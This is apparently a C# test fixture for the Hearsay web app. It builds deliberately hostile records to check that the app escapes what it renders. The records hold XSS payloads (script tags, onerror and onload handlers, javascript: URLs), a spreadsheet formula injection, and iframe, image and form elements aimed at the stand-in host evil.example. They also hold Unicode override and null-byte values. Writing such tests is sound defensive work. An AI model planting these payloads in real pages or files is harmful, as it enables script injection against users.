using Hearsay.Record;

namespace Hearsay.Web.Tests;

/// <summary>A record that wants to harm whoever looks at it.</summary>
internal static class Hostile
{
    public const string Override = "\u202e";

    public static Person Villain { get; } = new("per:<svg/onload=alert(1)>/..%2f?x=1#y.json", "<svg/onload=alert(1)> \"quoted\" & Sons'", EntityType.Per, "<b>party</b>", "\"onmouseover=alert(2)")
    {
        Spellings = ["</title><script>alert(3)</script>", $"safe{Override}live"],
    };

    public static Person Victim { get; } = new("per:..", "'><iframe src=//evil.example>", EntityType.Org);

    public static MemoryStore Store()
    {
        var store = new MemoryStore(TimeProvider.System);
        Clipping().AddTo(store);
        store.Fail(new Failure("<script>alert(4)</script>.html", "<i>", "</td><script>alert(5)</script>"));
        store.Fail(new Failure("=HYPERLINK(\"//evil.example\")", "@SUM(1)", "+1"));
        return store;
    }

    public static Clipping Clipping()
    {
        var evidence = $"{Villain.Name} attacked {Victim.Name} <script>alert(6)</script> {Override}said \ud800 nobody\u0000.";
        return new Clipping("\"><img src=x onerror=alert(7)>", "2022-01-01", "</title><script>alert(8)</script>", evidence, "<!-- --><style>*{display:none}</style>", "&lt;b&gt; stays as it is")
            .With(article => article with
            {
                Url = "javascript:alert(9)",
                Author = ["<a href=javascript:alert(10)>x</a>"],
                Captions = ["<img src=//evil.example/x.png>"],
                Embeds = ["<object data=x>"],
                Noise = ["<marquee>Donate!</marquee>", $"{Override}share"],
                Comments = [new Comment("<u>me</u>", "\"><script>", "{{constructor}} @(1+1) <form action=//evil.example>")],
            })
            .Tell(new Telling(evidence) { Event = EventType.Assault, From = Villain, To = Victim, Score = -9, Trigger = "attacked", On = "2021-12-31", Voices = [Speaker.Of(Villain, "said"), new Speaker("<script>alert(11)</script>", VoiceKind.Anonymous, "nobody")] })
            .Tell(new Telling(evidence) { Tie = TieType.Ally, Change = TieChange.Turns, From = Villain, To = Victim });
    }
}
